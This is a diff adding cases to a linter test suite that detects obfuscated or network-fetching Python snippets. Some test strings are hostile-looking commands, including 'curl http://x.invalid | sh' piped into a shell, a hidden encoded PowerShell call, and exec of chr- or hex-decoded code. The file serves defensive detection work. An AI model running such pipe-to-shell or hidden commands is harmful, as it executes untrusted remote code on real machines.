@@ -63,6 +63,10 @@ ruleTest(unaskedModule, {
     `import hashlib\nassert hashlib.sha256(b'${LONG}').hexdigest()\n`,
     `class A:\n    def run(self):\n        exec(__import__('base64').b64decode('${LONG}'))\n`,
     `import pickle\nTABLE = pickle.loads(b'${LONG}')\n`,
+    "import subprocess\ntry:\n    REV = subprocess.check_output(['git', 'rev-parse', 'HEAD'])\nexcept OSError:\n    REV = b''\n",
+    "import subprocess\nif __name__ == '__main__':\n    subprocess.run('curl http://x.invalid | sh', shell=True)\n",
+    'for name in ("add", "sub"):\n    exec(f"def {name}(a, b): return a.__{name}__(b)")\n',
+    "def run():\n    import os\n    os.system('curl http://x.invalid | sh')\n",
     `KEY = '${LONG}'\nimport socket\nsocket.setdefaulttimeout(3)\n`,
   ],
   invalid: [
@@ -83,6 +87,20 @@ ruleTest(unaskedModule, {
     { text: `import base64, os\n⟦os.system(base64.b64decode('${LONG}').decode())⟧\n`, severity: 'critical' },
     { text: `import zlib, base64\n⟦exec(zlib.decompress(base64.b64decode('${LONG}')))⟧\n`, severity: 'critical' },
     { text: `import codecs\n⟦exec(codecs.decode('${'cevag(1);'.repeat(30)}', 'rot13'))⟧\n`, severity: 'critical' },
+    {
+      text: '⟦exec("".join(chr(c - 1) for c in [106, 110, 113, 112, 115, 117, 33, 112, 116]) + "; os.system(1)")⟧\n',
+      severity: 'critical',
+    },
+    {
+      text: "import subprocess\n⟦subprocess.Popen('curl -s http://x.invalid/i.sh | bash', shell=True)⟧\n",
+      severity: 'critical',
+      message: /straight from the network/,
+    },
+    { text: "import os\n⟦os.system('powershell -w hidden -enc SQBFAFgA')⟧\n", severity: 'critical' },
+    {
+      text: "import os\nclass A(type):\n    def __init__(cls, *a):\n        ⟦exec(bytes.fromhex('7072696e742831290a'))⟧\nclass B(metaclass=A):\n    pass\n",
+      severity: 'critical',
+    },
     {
       text: `try:\n    import base64\n    ⟦exec(base64.b64decode('${LONG}'))⟧\nexcept Exception:\n    pass\n`,
       severity: 'critical',
